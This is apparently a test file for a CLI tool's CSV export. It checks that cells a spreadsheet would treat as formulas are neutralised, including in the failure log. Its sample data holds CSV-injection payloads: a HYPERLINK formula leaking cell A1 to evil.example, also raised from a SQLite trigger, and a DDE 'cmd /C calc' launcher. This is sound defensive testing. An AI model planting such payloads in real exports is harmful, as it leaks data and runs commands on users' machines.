import { csvLine, renderCsv } from '../../src/api/csv';
import { runCli } from '../support/cli';
import { createWorkspace } from '../support/workspace';

/** Values a spreadsheet reads as formulas (CSV injection, OWASP): each must open as text. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];

describe('CSV cells never open as formulas', () => {
  it.each(FORMULAS)('%j is prefixed with a single quote', (value) => {
    const line = csvLine(['x', value]);
    const cell = line.slice(2, -2);
    expect(cell.replace(/^"|"$/g, '').replace(/""/g, '"')).toBe(`'${value}`);
  });

  it('numbers stay numbers (a negative one is no formula), other text stays as it is; RFC 4180 quoting', () => {
    expect(csvLine([-5, '-5', '-0.25', 'a-b', 'a=b', 3, true, null, undefined])).toBe(
      '-5,-5,-0.25,a-b,a=b,3,true,,\r\n',
    );
    expect(csvLine(['a,b', 'say "hi"', 'two\nlines', 'a;=1+1'])).toBe(
      '"a,b","say ""hi""","two\nlines","a;=1+1"\r\n',
    );
    expect(csvLine(['=1,2'])).toBe(`"'=1,2"\r\n`);
    expect(renderCsv(['key'], [['@x'], ['y']])).toBe("key\r\n'@x\r\ny\r\n");
  });
});

describe('the failure log as CSV (CLI)', () => {
  it('failures --format csv and -o csv write keys and driver messages from the target as text, never as formulas', async () => {
    const ws = createWorkspace(`
      CREATE TABLE accounts (id TEXT PRIMARY KEY, created_at INTEGER NOT NULL);
      CREATE TABLE holds (id INTEGER PRIMARY KEY, account_id TEXT REFERENCES accounts(id));
      CREATE TRIGGER guard BEFORE DELETE ON accounts WHEN old.id = 'plain'
        BEGIN SELECT RAISE(ABORT, '=HYPERLINK("http://evil.example/"&A1,"details")'); END;
    `);
    const db = ws.target();
    const old = Date.now() - 40 * 86_400_000;
    for (const id of [...FORMULAS, 'plain', '-42'])
      db.prepare('INSERT INTO accounts (id, created_at) VALUES (?, ?)').run(id, old);
    for (const id of FORMULAS) db.prepare('INSERT INTO holds (account_id) VALUES (?)').run(id);
    db.close();
    ws.writeJob(
      'purge-accounts',
      `
name: purge-accounts
target: app
queries:
  - entity: accounts
    where: { field: created_at, olderThan: 30d }
`,
    );
    const run = await runCli(['--config', ws.configFile, 'run', 'purge-accounts', '--yes']);
    expect(run.code).toBe(3);
    for (const args of [
      ['failures', '--format', 'csv'],
      ['failures', '-o', 'csv'],
    ]) {
      const out = await runCli(['--config', ws.configFile, ...args]);
      expect(out.code).toBe(0);
      const lines = out.stdout.split('\r\n');
      expect(lines[0]).toBe('id,runId,job,queryIndex,entity,key,code,message,at');
      expect(lines.filter((l) => /^\d/.test(l))).toHaveLength(FORMULAS.length + 1);
      // No cell of a data line starts with a formula character, even after the separators of other locales.
      const cells = lines
        .slice(1)
        .join('\r\n')
        .split(/[,;]|\r\n/)
        .map((c) => c.replace(/^"/, ''));
      for (const cell of cells)
        expect({ cell, formula: /^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/.test(cell) }).toEqual({
          cell,
          formula: false,
        });
      expect(out.stdout).toContain(`'=HYPERLINK(""http://evil.example/?""&A1`);
      expect(out.stdout).toContain(
        `,plain,SQLITE_CONSTRAINT_TRIGGER,"'=HYPERLINK(""http://evil.example/""&A1`,
      );
    }
  }, 60_000);
});
